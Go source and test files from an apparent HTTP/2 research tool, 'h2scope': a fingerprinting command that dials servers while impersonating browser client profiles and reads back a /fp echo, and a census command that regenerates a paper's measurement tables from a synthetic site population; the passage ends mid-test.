func TestOutFileAppendsRecord(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bench.jsonl")
	for i := 0; i < 2; i++ {
		opts, err := parseFlags([]string{
			"-profile", "h2o", "-n", "20", "-out", path,
		}, io.Discard)
		if err != nil {
			t.Fatal(err)
		}
		var stdout, stderr strings.Builder
		if err := run(opts, &stdout, &stderr); err != nil {
			t.Fatalf("run(-out %s): %v", path, err)
		}
		if !strings.Contains(stdout.String(), "req/s") {
			t.Errorf("human report missing from stdout:\n%s", stdout.String())
		}
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(string(data), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("out file has %d lines after two runs, want 2:\n%s", len(lines), data)
	}
	for i, line := range lines {
		var sum h2load.Summary
		if err := json.Unmarshal([]byte(line), &sum); err != nil {
			t.Errorf("line %d is not a summary record: %v", i+1, err)
		}
	}
}
