// Command h2fp works the fingerprinting plane from the command line, in
// both directions: offline, it reduces exported frame traces to behavioral
// client sketches; live, it dials a server wearing a builtin client
// profile and reads the server's /fp fingerprint echo back.
//
// Offline mode (per-connection sketches with a client-family guess):
//
//	h2fp -trace traces/site-000001.example.jsonl
//
// Live mode (dial, impersonate, fetch /fp, print both sides):
//
//	h2fp -target 127.0.0.1:8443 -impersonate chrome
//	h2fp -target 127.0.0.1:8080 -plain -impersonate firefox
//
// Profile listing:
//
//	h2fp -profiles
package main

import (
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"time"

	"h2scope/internal/fingerprint"
	"h2scope/internal/h2conn"
	"h2scope/internal/tlsutil"
	"h2scope/internal/trace"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

type options struct {
	tracePath   string
	target      string
	impersonate string
	sni         string
	plain       bool
	profiles    bool
	timeout     time.Duration
}

func run(args []string, stdout, stderr io.Writer) int {
	o := &options{}
	fs := flag.NewFlagSet("h2fp", flag.ContinueOnError)
	fs.SetOutput(stderr)
	fs.StringVar(&o.tracePath, "trace", "", "offline mode: sketch client behavior from this exported trace (JSONL)")
	fs.StringVar(&o.target, "target", "", "live mode: dial this host:port and fetch its /fp echo")
	fs.StringVar(&o.impersonate, "impersonate", "", "builtin client profile to wear when dialing (curl, chrome, firefox, go)")
	fs.StringVar(&o.sni, "sni", "", "TLS server name; defaults to the target's host")
	fs.BoolVar(&o.plain, "plain", false, "dial cleartext prior-knowledge h2 instead of TLS")
	fs.BoolVar(&o.profiles, "profiles", false, "list the builtin impersonation profiles and exit")
	fs.DurationVar(&o.timeout, "timeout", 5*time.Second, "per-fetch wait in live mode")
	fs.Usage = func() {
		fmt.Fprintf(stderr, "usage: h2fp -trace <trace.jsonl>\n")
		fmt.Fprintf(stderr, "       h2fp -target <host:port> [-impersonate name] [-plain] [-sni name]\n")
		fmt.Fprintf(stderr, "       h2fp -profiles\n\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() > 0 {
		fmt.Fprintf(stderr, "h2fp: unexpected positional arguments: %v\n", fs.Args())
		return 2
	}
	modes := 0
	for _, on := range []bool{o.tracePath != "", o.target != "", o.profiles} {
		if on {
			modes++
		}
	}
	if modes != 1 {
		fs.Usage()
		return 2
	}
	var err error
	switch {
	case o.profiles:
		err = listProfiles(stdout)
	case o.tracePath != "":
		err = sketchTrace(o.tracePath, stdout)
	default:
		err = liveEcho(o, stdout)
	}
	if err != nil {
		fmt.Fprintf(stderr, "h2fp: %v\n", err)
		return 1
	}
	return 0
}

// listProfiles prints each builtin profile with the HTTP/2 fingerprint a
// faithful impersonation produces.
func listProfiles(out io.Writer) error {
	for _, p := range fingerprint.BuiltinProfiles() {
		fmt.Fprintf(out, "%-8s %s\n", p.Name, p.ExpectedAkamai())
	}
	return nil
}

// sketchTrace renders per-connection behavioral sketches from an exported
// trace file.
func sketchTrace(path string, out io.Writer) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	data, err := trace.Read(f)
	if err != nil {
		return fmt.Errorf("reading trace %s: %w", path, err)
	}
	sketches := fingerprint.Sketches(data)
	if len(sketches) == 0 {
		return fmt.Errorf("trace %s holds no frame events", path)
	}
	for _, s := range sketches {
		fmt.Fprintln(out, s.String())
	}
	return nil
}

// liveEcho dials the target, optionally impersonating a builtin profile,
// fetches /fp, and prints the server's echo next to the client's own
// expectation.
func liveEcho(o *options, out io.Writer) error {
	var profile *fingerprint.ClientProfile
	if o.impersonate != "" {
		var err error
		if profile, err = fingerprint.ProfileByName(o.impersonate); err != nil {
			return fmt.Errorf("unknown profile %q; try -profiles", o.impersonate)
		}
	}
	host, _, err := net.SplitHostPort(o.target)
	if err != nil {
		return fmt.Errorf("-target must be host:port: %w", err)
	}
	sni := o.sni
	if sni == "" {
		sni = host
	}
	nc, err := net.DialTimeout("tcp", o.target, o.timeout)
	if err != nil {
		return fmt.Errorf("dial %s: %w", o.target, err)
	}
	defer nc.Close()
	if !o.plain {
		tc := tls.Client(nc, tlsutil.ClientConfig(sni, "h2"))
		if err := tc.Handshake(); err != nil {
			return fmt.Errorf("TLS handshake with %s: %w", o.target, err)
		}
		if proto := tc.ConnectionState().NegotiatedProtocol; proto != "h2" {
			return fmt.Errorf("%s negotiated %q, not h2", o.target, proto)
		}
		nc = tc
	}
	opts := h2conn.DefaultOptions()
	opts.Impersonate = profile
	c, err := h2conn.Dial(nc, opts)
	if err != nil {
		return fmt.Errorf("h2 dial: %w", err)
	}
	defer c.Close()
	resp, err := c.FetchBody(h2conn.Request{Authority: sni, Path: "/fp"}, o.timeout)
	if err != nil {
		return fmt.Errorf("fetch /fp: %w", err)
	}
	if resp.Status() != "200" {
		return fmt.Errorf("%s answered /fp with status %q; no fingerprint echo", o.target, resp.Status())
	}
	var echo fingerprint.Echo
	if err := json.Unmarshal(resp.Body, &echo); err != nil {
		return fmt.Errorf("parsing /fp echo: %w", err)
	}
	printEcho(out, &echo, profile)
	return nil
}

// printEcho renders the server's echo, and — when impersonating — whether
// the round trip reproduced the profile's expected HTTP/2 fingerprint.
func printEcho(out io.Writer, echo *fingerprint.Echo, profile *fingerprint.ClientProfile) {
	if echo.JA3 != "" {
		fmt.Fprintf(out, "ja3:      %s\n", echo.JA3)
		fmt.Fprintf(out, "ja3_hash: %s\n", echo.JA3Hash)
	}
	if echo.JA4 != "" {
		fmt.Fprintf(out, "ja4:      %s\n", echo.JA4)
	}
	if echo.SNI != "" {
		fmt.Fprintf(out, "sni:      %s\n", echo.SNI)
	}
	if echo.ALPN != "" {
		fmt.Fprintf(out, "alpn:     %s\n", echo.ALPN)
	}
	fmt.Fprintf(out, "ja4h:     %s\n", echo.JA4H)
	fmt.Fprintf(out, "h2:       %s\n", echo.H2)
	if profile != nil {
		want := profile.ExpectedAkamai()
		verdict := "match"
		if echo.H2 != want {
			verdict = fmt.Sprintf("MISMATCH (want %s)", want)
		}
		fmt.Fprintf(out, "impersonation: %s -> %s\n", profile.Name, verdict)
	}
}
