package main

import (
	"bytes"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"h2scope/internal/fingerprint"
	"h2scope/internal/h2conn"
	"h2scope/internal/server"
	"h2scope/internal/tlsutil"
	"h2scope/internal/trace"
)

// startTLSServer runs a testbed server behind a fingerprinting TLS
// listener on a real loopback port and returns its address.
func startTLSServer(t *testing.T) string {
	t.Helper()
	inner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	cert, err := tlsutil.SelfSignedCert("fp.example")
	if err != nil {
		t.Fatalf("cert: %v", err)
	}
	l := tlsutil.NewFingerprintListener(inner, tlsutil.ServerConfig(cert, true))
	srv := server.New(server.ApacheProfile(), server.DefaultSite("fp.example"))
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { srv.Close() })
	return inner.Addr().String()
}

func TestLiveEchoImpersonation(t *testing.T) {
	addr := startTLSServer(t)
	var out, errOut bytes.Buffer
	code := run([]string{"-target", addr, "-impersonate", "chrome", "-sni", "fp.example"}, &out, &errOut)
	if code != 0 {
		t.Fatalf("run = %d, stderr:\n%s", code, errOut.String())
	}
	got := out.String()
	for _, want := range []string{"ja3:", "ja4:", "sni:      fp.example", "alpn:     h2", "ja4h:", "h2:"} {
		if !strings.Contains(got, want) {
			t.Errorf("output missing %q:\n%s", want, got)
		}
	}
	if !strings.Contains(got, "impersonation: chrome -> match") {
		t.Errorf("impersonation round trip not confirmed:\n%s", got)
	}
}

func TestLiveEchoUnknownProfile(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"-target", "127.0.0.1:1", "-impersonate", "netscape"}, &out, &errOut); code != 1 {
		t.Fatalf("run = %d, want 1", code)
	}
	if !strings.Contains(errOut.String(), "unknown profile") {
		t.Errorf("stderr:\n%s", errOut.String())
	}
}

func TestSketchTrace(t *testing.T) {
	// Produce a real trace: a firefox-impersonated connection against an
	// in-process server, exported to a JSONL file.
	inner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	srv := server.New(server.ApacheProfile(), server.DefaultSite("trace.example"))
	go func() { _ = srv.Serve(inner) }()
	t.Cleanup(func() { srv.Close() })

	tracer := trace.New(1024)
	nc, err := net.Dial("tcp", inner.Addr().String())
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	opts := h2conn.DefaultOptions()
	opts.Impersonate = fingerprint.FirefoxProfile()
	opts.Tracer = tracer
	c, err := h2conn.Dial(nc, opts)
	if err != nil {
		t.Fatalf("h2 dial: %v", err)
	}
	if _, err := c.FetchBody(h2conn.Request{Authority: "trace.example", Path: "/"}, 5*time.Second); err != nil {
		t.Fatalf("fetch: %v", err)
	}
	_ = c.Close()

	path := filepath.Join(t.TempDir(), "conn.jsonl")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := trace.Write(f, "trace.example", tracer); err != nil {
		t.Fatalf("trace write: %v", err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	var out, errOut bytes.Buffer
	if code := run([]string{"-trace", path}, &out, &errOut); code != 0 {
		t.Fatalf("run = %d, stderr:\n%s", code, errOut.String())
	}
	got := out.String()
	if !strings.Contains(got, "priorities=6") || !strings.Contains(got, "guess=firefox") {
		t.Errorf("sketch did not recognize the firefox preamble:\n%s", got)
	}
}

func TestProfilesListing(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"-profiles"}, &out, &errOut); code != 0 {
		t.Fatalf("run = %d", code)
	}
	for _, name := range []string{"curl", "chrome", "firefox", "go"} {
		if !strings.Contains(out.String(), name) {
			t.Errorf("listing missing %s:\n%s", name, out.String())
		}
	}
}

func TestModeFlagsAreExclusive(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"-profiles", "-trace", "x.jsonl"}, &out, &errOut); code != 2 {
		t.Fatalf("run = %d, want 2", code)
	}
	if code := run(nil, &out, &errOut); code != 2 {
		t.Fatalf("bare run = %d, want 2", code)
	}
}
