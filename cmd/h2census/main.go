// Command h2census regenerates the paper's large-scale measurement results
// (Tables IV-VII, Fig. 2, Figs. 4-5, and Sections V-B/D/E/F) from the
// synthetic Alexa top-1M population, for either or both experiment epochs,
// and optionally re-measures a sample of materialized sites with the full
// H2Scope probe battery.
//
// Usage:
//
//	h2census                         # all spec-level tables, both epochs
//	h2census -epoch 2 -sample 200    # Jan 2017 epoch plus a 200-site measured scan
//	h2census -scale 0.1              # a 10%-scale universe
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"h2scope"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2census:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		epochFlag = flag.Int("epoch", 0, "experiment epoch: 1 (Jul 2016), 2 (Jan 2017), 0 = both")
		scale     = flag.Float64("scale", 1.0, "population scale in (0,1]")
		seed      = flag.Int64("seed", 42, "generator seed")
		sample    = flag.Int("sample", 0, "if > 0, also probe this many materialized sites")
		parallel  = flag.Int("parallel", 16, "scanner thread-pool size")
		outPath   = flag.String("out", "", "append per-site scan records (JSON lines) to this file")
		analyze   = flag.String("analyze", "", "skip generation: analyze a previously written records file and exit")
	)
	flag.Parse()

	if *analyze != "" {
		f, err := os.Open(*analyze)
		if err != nil {
			return err
		}
		defer func() {
			_ = f.Close()
		}()
		records, err := h2scope.ReadScanRecords(f)
		if err != nil {
			return err
		}
		fmt.Println(h2scope.AnalyzeScanRecords(records))
		return nil
	}

	var epochs []h2scope.Epoch
	switch *epochFlag {
	case 0:
		epochs = []h2scope.Epoch{h2scope.EpochJul2016, h2scope.EpochJan2017}
	case 1:
		epochs = []h2scope.Epoch{h2scope.EpochJul2016}
	case 2:
		epochs = []h2scope.Epoch{h2scope.EpochJan2017}
	default:
		return fmt.Errorf("bad -epoch %d", *epochFlag)
	}

	for _, epoch := range epochs {
		census := h2scope.NewCensus(epoch, *scale, *seed)
		fmt.Printf("==== %s (scale %.3g, seed %d) ====\n\n", epoch, *scale, *seed)
		fmt.Println("-- Adoption (Section V-B) --")
		fmt.Println(census.Adoption())
		fmt.Println("-- Table IV: servers used by more than 1,000 sites --")
		fmt.Println(census.TableIV(int(1000 * *scale)))
		fmt.Println("-- Table V: SETTINGS_INITIAL_WINDOW_SIZE --")
		fmt.Println(census.TableV())
		fmt.Println("-- Table VI: SETTINGS_MAX_FRAME_SIZE --")
		fmt.Println(census.TableVI())
		fmt.Println("-- Table VII: SETTINGS_MAX_HEADER_LIST_SIZE --")
		fmt.Println(census.TableVII())
		fmt.Println("-- Figure 2: SETTINGS_MAX_CONCURRENT_STREAMS CDF --")
		fmt.Println(census.Figure2Rendered())
		fmt.Println("-- Section V-D: flow control --")
		fmt.Println(census.SectionVD())
		fmt.Println("-- Section V-E: priority --")
		fmt.Println(census.SectionVE())
		fmt.Println("-- Section V-F: server push --")
		fmt.Println(census.SectionVF())
		fig := "Figure 4"
		if epoch == h2scope.EpochJan2017 {
			fig = "Figure 5"
		}
		fmt.Printf("-- %s: HPACK compression ratio by family (CDF quantiles) --\n", fig)
		fmt.Println(census.Figures4And5Rendered())

		if *sample > 0 {
			fmt.Printf("-- Measured scan (%d sites, %d threads) --\n", *sample, *parallel)
			sum, err := h2scope.ScanPopulation(census.Pop, h2scope.ScanOptions{
				SampleSize:  *sample,
				Parallelism: *parallel,
				Seed:        *seed,
			})
			if err != nil {
				return err
			}
			fmt.Println(h2scope.RenderScan(sum))
			if *outPath != "" {
				f, err := os.OpenFile(*outPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
				if err != nil {
					return err
				}
				err = h2scope.WriteScanRecords(f, epoch, time.Now(), sum)
				if cerr := f.Close(); err == nil {
					err = cerr
				}
				if err != nil {
					return err
				}
				fmt.Printf("wrote %d records to %s\n", len(sum.Results), *outPath)
			}
		}
	}
	return nil
}
