// Command h2census regenerates the paper's large-scale measurement results
// (Tables IV-VII, Fig. 2, Figs. 4-5, and Sections V-B/D/E/F) from the
// synthetic Alexa top-1M population, for either or both experiment epochs,
// and optionally re-measures a sample of materialized sites with the full
// H2Scope probe battery through the resilient scan engine.
//
// Usage:
//
//	h2census                         # all spec-level tables, both epochs
//	h2census -epoch 2 -sample 200    # Jan 2017 epoch plus a 200-site measured scan
//	h2census -scale 0.1              # a 10%-scale universe
//	h2census -sample 500 -retries 3 -timeout 2s -progress 5s -out scan.jsonl
//	h2census -sample 100 -robustness # score each sampled site's attack resilience
//	h2census -sample 100 -fingerprint # re-dial each site as curl/Chrome/Firefox/Go and diff responses
//	h2census -analyze scan.jsonl     # offline re-analysis of a records file
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"time"

	"h2scope"
)

func main() {
	opts, err := parseFlags(os.Args[1:], os.Stderr)
	if err == flag.ErrHelp {
		os.Exit(2)
	}
	if err == nil {
		err = run(opts, os.Stdout, os.Stderr)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "h2census:", err)
		os.Exit(1)
	}
}

// options carries the parsed, validated command line.
type options struct {
	epoch       int
	scale       float64
	seed        int64
	sample      int
	parallel    int
	retries     int
	timeout     time.Duration
	progress    time.Duration
	outPath     string
	traceDir    string
	analyze     string
	debugAddr   string
	flightRec   string
	robustness  bool
	fingerprint bool

	// debugStarted and onScanRecord are test seams: debugStarted receives
	// the debug server's bound address once it is listening, onScanRecord
	// fires (serialized) as each scanned site finalizes — while the scan is
	// still in flight.
	debugStarted func(addr string)
	onScanRecord func()
}

// machineStdout reports whether stdout is reserved for the JSONL record
// stream (-out -), pushing all human-readable output to stderr.
func (o *options) machineStdout() bool { return o.outPath == "-" }

// parseFlags parses args and validates flag combinations, returning clear
// errors instead of silently misbehaving on nonsense like -scale 7 or
// -analyze together with -sample.
func parseFlags(args []string, errOut io.Writer) (*options, error) {
	o := &options{}
	fs := flag.NewFlagSet("h2census", flag.ContinueOnError)
	fs.SetOutput(errOut)
	fs.IntVar(&o.epoch, "epoch", 0, "experiment epoch: 1 (Jul 2016), 2 (Jan 2017), 0 = both")
	fs.Float64Var(&o.scale, "scale", 1.0, "population scale in (0,1]")
	fs.Int64Var(&o.seed, "seed", 42, "generator seed")
	fs.IntVar(&o.sample, "sample", 0, "if > 0, also probe this many materialized sites")
	fs.IntVar(&o.parallel, "parallel", 16, "scanner worker-pool size")
	fs.IntVar(&o.retries, "retries", 2, "per-site retry cap for transient (dial/timeout) failures")
	fs.DurationVar(&o.timeout, "timeout", 5*time.Second, "per-probe protocol wait; the per-site budget derives from it")
	fs.DurationVar(&o.progress, "progress", 0, "if > 0, print scan progress to stderr at this interval")
	fs.StringVar(&o.outPath, "out", "", "append per-site scan records (JSON lines) to this file; \"-\" streams records to stdout and moves tables to stderr")
	fs.StringVar(&o.traceDir, "trace", "", "directory to write per-site frame-level traces (JSONL, view with h2trace); needs -sample > 0")
	fs.StringVar(&o.analyze, "analyze", "", "skip generation: analyze a previously written records file and exit")
	fs.StringVar(&o.debugAddr, "debug-addr", "", "serve live /metrics, /metrics.json, /dashboard, expvar, and pprof on this address (\":0\" picks a port) while the census runs")
	fs.StringVar(&o.flightRec, "flightrec", "", "directory for anomaly flight-recorder dumps (bounded JSONL forensics on p99 blowouts and error spikes); needs -sample > 0")
	fs.BoolVar(&o.robustness, "robustness", false, "also run the short adversarial battery against each sampled site and score its resilience; needs -sample > 0")
	fs.BoolVar(&o.fingerprint, "fingerprint", false, "also re-dial each sampled site impersonating the builtin client profiles and record whether responses differ; needs -sample > 0")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if narg := fs.NArg(); narg > 0 {
		return nil, fmt.Errorf("unexpected positional arguments: %v", fs.Args())
	}
	if err := o.validate(); err != nil {
		return nil, err
	}
	return o, nil
}

// validate rejects out-of-range values and contradictory flag combinations.
func (o *options) validate() error {
	if o.epoch < 0 || o.epoch > 2 {
		return fmt.Errorf("-epoch must be 0 (both), 1 (Jul 2016), or 2 (Jan 2017); got %d", o.epoch)
	}
	if o.scale <= 0 || o.scale > 1 {
		return fmt.Errorf("-scale must be in (0,1]; got %g", o.scale)
	}
	if o.sample < 0 {
		return fmt.Errorf("-sample must be >= 0; got %d", o.sample)
	}
	if o.parallel < 1 {
		return fmt.Errorf("-parallel must be >= 1; got %d", o.parallel)
	}
	if o.retries < 0 {
		return fmt.Errorf("-retries must be >= 0; got %d", o.retries)
	}
	if o.timeout <= 0 {
		return fmt.Errorf("-timeout must be positive; got %v", o.timeout)
	}
	if o.progress < 0 {
		return fmt.Errorf("-progress must be >= 0; got %v", o.progress)
	}
	if o.analyze != "" {
		if o.sample > 0 {
			return fmt.Errorf("-analyze reads a records file and probes nothing; it cannot be combined with -sample")
		}
		if o.outPath != "" {
			return fmt.Errorf("-analyze does not write records; it cannot be combined with -out")
		}
	}
	if o.outPath != "" && o.sample == 0 {
		return fmt.Errorf("-out needs a measured scan; set -sample > 0")
	}
	if o.traceDir != "" && o.sample == 0 {
		return fmt.Errorf("-trace needs a measured scan; set -sample > 0")
	}
	if o.flightRec != "" && o.sample == 0 {
		return fmt.Errorf("-flightrec needs a measured scan; set -sample > 0")
	}
	if o.robustness && o.sample == 0 {
		return fmt.Errorf("-robustness needs a measured scan; set -sample > 0")
	}
	if o.fingerprint && o.sample == 0 {
		return fmt.Errorf("-fingerprint needs a measured scan; set -sample > 0")
	}
	return nil
}

// run drives the census. stdout carries the deliverable: human-readable
// tables normally, or the machine-clean JSONL record stream under -out -
// (all tables and notices shift to stderr so piped output stays parseable).
func run(o *options, stdout, stderr io.Writer) (err error) {
	human := stdout
	if o.machineStdout() {
		human = stderr
	}
	// One registry for the whole invocation: scans mirror their engine
	// counters and every probe connection into it, and -debug-addr serves
	// it live while the census runs.
	var reg *h2scope.MetricsRegistry
	if o.sample > 0 || o.debugAddr != "" {
		reg = h2scope.NewMetricsRegistry()
	}
	// The observability layer rides every measured scan: the monitor folds
	// causal spans out of each target's trace and feeds the phase histograms;
	// the flight recorder (opt-in via -flightrec) dumps bounded forensics
	// when the monitor raises an anomaly.
	var monitor *h2scope.ObsMonitor
	var recorder *h2scope.FlightRecorder
	if o.sample > 0 {
		mcfg := h2scope.ObsMonitorConfig{Registry: reg}
		if o.flightRec != "" {
			recorder, err = h2scope.NewFlightRecorder(h2scope.FlightRecorderConfig{Dir: o.flightRec, Registry: reg})
			if err != nil {
				return err
			}
			defer func() {
				if cerr := recorder.Close(); err == nil {
					err = cerr
				}
			}()
			mcfg.OnAnomaly = func(a h2scope.ObsAnomaly) {
				path, derr := recorder.Dump(a, a.Events)
				switch {
				case derr != nil:
					fmt.Fprintf(human, "h2census: flight dump failed: %v\n", derr)
				case path != "":
					fmt.Fprintf(human, "anomaly %q -> %s\n", a.Reason, path)
				}
			}
		}
		monitor = h2scope.NewObsMonitor(mcfg)
	}
	if o.debugAddr != "" {
		ds, err := h2scope.StartDebugServer(o.debugAddr, reg)
		if err != nil {
			return err
		}
		defer func() {
			_ = ds.Close()
		}()
		if monitor != nil {
			dash := h2scope.NewObsDashboard("h2census", monitor, recorder, reg)
			ds.Handle("/dashboard", dash)
			ds.Handle("/dashboard.json", dash)
			fmt.Fprintf(human, "dashboard: http://%s/dashboard\n", ds.Addr())
		}
		fmt.Fprintf(human, "debug endpoint: http://%s/metrics\n", ds.Addr())
		if o.debugStarted != nil {
			o.debugStarted(ds.Addr())
		}
	}
	if o.analyze != "" {
		f, err := os.Open(o.analyze)
		if err != nil {
			return err
		}
		defer func() {
			_ = f.Close()
		}()
		records, err := h2scope.ReadScanRecords(f)
		if err != nil {
			return err
		}
		fmt.Fprintln(human, h2scope.AnalyzeScanRecords(records))
		return nil
	}

	var epochs []h2scope.Epoch
	switch o.epoch {
	case 0:
		epochs = []h2scope.Epoch{h2scope.EpochJul2016, h2scope.EpochJan2017}
	case 1:
		epochs = []h2scope.Epoch{h2scope.EpochJul2016}
	case 2:
		epochs = []h2scope.Epoch{h2scope.EpochJan2017}
	}

	for _, epoch := range epochs {
		census := h2scope.NewCensus(epoch, o.scale, o.seed)
		fmt.Fprintf(human, "==== %s (scale %.3g, seed %d) ====\n\n", epoch, o.scale, o.seed)
		fmt.Fprintln(human, "-- Adoption (Section V-B) --")
		fmt.Fprintln(human, census.Adoption())
		fmt.Fprintln(human, "-- Table IV: servers used by more than 1,000 sites --")
		fmt.Fprintln(human, census.TableIV(int(1000*o.scale)))
		fmt.Fprintln(human, "-- Table V: SETTINGS_INITIAL_WINDOW_SIZE --")
		fmt.Fprintln(human, census.TableV())
		fmt.Fprintln(human, "-- Table VI: SETTINGS_MAX_FRAME_SIZE --")
		fmt.Fprintln(human, census.TableVI())
		fmt.Fprintln(human, "-- Table VII: SETTINGS_MAX_HEADER_LIST_SIZE --")
		fmt.Fprintln(human, census.TableVII())
		fmt.Fprintln(human, "-- Figure 2: SETTINGS_MAX_CONCURRENT_STREAMS CDF --")
		fmt.Fprintln(human, census.Figure2Rendered())
		fmt.Fprintln(human, "-- Section V-D: flow control --")
		fmt.Fprintln(human, census.SectionVD())
		fmt.Fprintln(human, "-- Section V-E: priority --")
		fmt.Fprintln(human, census.SectionVE())
		fmt.Fprintln(human, "-- Section V-F: server push --")
		fmt.Fprintln(human, census.SectionVF())
		fig := "Figure 4"
		if epoch == h2scope.EpochJan2017 {
			fig = "Figure 5"
		}
		fmt.Fprintf(human, "-- %s: HPACK compression ratio by family (CDF quantiles) --\n", fig)
		fmt.Fprintln(human, census.Figures4And5Rendered())

		if o.sample > 0 {
			if err := runScan(o, stdout, human, stderr, epoch, census, reg, monitor); err != nil {
				return err
			}
		}
	}
	return nil
}

// runScan performs the measured scan of one epoch through the scan engine
// and reports its stats, optionally persisting records plus a stats trailer.
// Human-readable tables and notices go to human; with -out - the record
// stream goes to stdout (and human is stderr, keeping stdout machine-clean).
func runScan(o *options, stdout, human, stderr io.Writer, epoch h2scope.Epoch, census *h2scope.Census, reg *h2scope.MetricsRegistry, monitor *h2scope.ObsMonitor) (err error) {
	fmt.Fprintf(human, "-- Measured scan (%d sites, %d workers, %d retries, timeout %v) --\n",
		o.sample, o.parallel, o.retries, o.timeout)
	scanOpts := h2scope.ScanOptions{
		SampleSize:  o.sample,
		Parallelism: o.parallel,
		Seed:        o.seed,
		Timeout:     o.timeout,
		Retries:     o.retries,
		TraceDir:    o.traceDir,
		Metrics:     reg,
		Robustness:  o.robustness,
		Fingerprint: o.fingerprint,
		Observer:    monitor,
	}
	if o.progress > 0 {
		scanOpts.Progress = stderr
		scanOpts.ProgressInterval = o.progress
	}
	if o.onScanRecord != nil {
		scanOpts.OnRecord = func(h2scope.ScanEngineRecord) { o.onScanRecord() }
	}
	sum, err := h2scope.ScanPopulation(census.Pop, scanOpts)
	if err != nil {
		return err
	}
	fmt.Fprintln(human, h2scope.RenderScan(sum))
	fmt.Fprintln(human, sum.Stats.String())
	if monitor != nil {
		fmt.Fprintln(human, "-- Phase latency (p50/p99) --")
		for _, phase := range h2scope.ObsPhases() {
			p50, p99, n := monitor.PhaseQuantiles(phase)
			if n == 0 {
				continue
			}
			fmt.Fprintf(human, "%-12s %10v %10v  (n=%d)\n", phase, p50, p99, n)
		}
		fmt.Fprintln(human)
	}
	var snaps []h2scope.MetricSnapshot
	if reg != nil {
		snaps = reg.Snapshot()
		fmt.Fprintln(human, "-- Metrics snapshot --")
		fmt.Fprintln(human, h2scope.RenderMetricsTable(snaps))
	}
	if o.outPath == "" {
		return nil
	}
	var w io.Writer
	if o.machineStdout() {
		w = stdout
	} else {
		f, ferr := os.OpenFile(o.outPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if ferr != nil {
			return ferr
		}
		defer func() {
			if cerr := f.Close(); err == nil {
				err = cerr
			}
		}()
		w = f
	}
	now := time.Now()
	err = h2scope.WriteScanRecords(w, epoch, now, sum)
	if err == nil {
		err = h2scope.AppendScanStats(w, epoch, now, sum.Stats, snaps)
	}
	if err != nil {
		return err
	}
	fmt.Fprintf(human, "wrote %d records (+1 stats trailer) to %s\n", len(sum.Results), o.outPath)
	return err
}
