package main

import (
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"h2scope"
)

func TestParseFlagsValidation(t *testing.T) {
	cases := []struct {
		name    string
		args    []string
		wantErr string // substring; empty means the args must parse
	}{
		{"defaults", nil, ""},
		{"sample scan", []string{"-sample", "10", "-retries", "1", "-timeout", "2s"}, ""},
		{"analyze alone", []string{"-analyze", "records.jsonl"}, ""},
		{"progress", []string{"-sample", "5", "-progress", "1s"}, ""},

		{"scale zero", []string{"-scale", "0"}, "-scale must be in (0,1]"},
		{"scale above one", []string{"-scale", "1.5"}, "-scale must be in (0,1]"},
		{"scale negative", []string{"-scale", "-0.5"}, "-scale must be in (0,1]"},
		{"bad epoch", []string{"-epoch", "3"}, "-epoch must be 0"},
		{"negative sample", []string{"-sample", "-1"}, "-sample must be >= 0"},
		{"zero parallel", []string{"-parallel", "0"}, "-parallel must be >= 1"},
		{"negative retries", []string{"-retries", "-2"}, "-retries must be >= 0"},
		{"zero timeout", []string{"-timeout", "0s"}, "-timeout must be positive"},
		{"negative progress", []string{"-progress", "-1s"}, "-progress must be >= 0"},
		{"analyze with sample", []string{"-analyze", "x.jsonl", "-sample", "10"},
			"cannot be combined with -sample"},
		{"analyze with out", []string{"-analyze", "x.jsonl", "-out", "y.jsonl"},
			"cannot be combined with -out"},
		{"out without sample", []string{"-out", "y.jsonl"}, "-out needs a measured scan"},
		{"positional junk", []string{"extra"}, "unexpected positional arguments"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := parseFlags(tc.args, io.Discard)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("parseFlags(%v) = %v, want nil", tc.args, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("parseFlags(%v) = %v, want error containing %q", tc.args, err, tc.wantErr)
			}
		})
	}
}

// TestRunAnalyzeRoundTrip drives the -analyze path end to end: scan a tiny
// population, persist records plus the stats trailer, then re-analyze the
// file through run().
func TestRunAnalyzeRoundTrip(t *testing.T) {
	pop := h2scope.GeneratePopulation(h2scope.EpochJul2016, 0.002, 7)
	sum, err := h2scope.ScanPopulation(pop, h2scope.ScanOptions{
		SampleSize: 5, Parallelism: 4, Seed: 7,
	})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "records.jsonl")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	when := time.Date(2016, 7, 5, 0, 0, 0, 0, time.UTC)
